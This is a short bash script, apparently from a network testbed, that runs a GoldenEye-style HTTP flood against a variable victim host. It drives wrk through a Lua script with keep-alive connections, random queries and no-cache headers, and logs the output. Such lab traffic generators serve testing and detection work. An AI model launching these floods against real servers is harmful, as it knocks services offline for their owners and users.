#!/usr/bin/env bash
# GoldenEye-style HTTP flood (wrk + httpflood.lua): keep-alive connections, random queries, no-cache.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
tb_run "$TB_NS" env TB_WRK_THREADS=2 wrk -t 2 -c 32 -d "${TB_SECONDS}s" --timeout 5s -s "$TB_LIB/httpflood.lua" \
  "http://$TB_VICTIM/" -- goldeneye "$TB_SEED" "$TB_COUNT" > "$TB_STATE/goldeneye.log" 2>&1
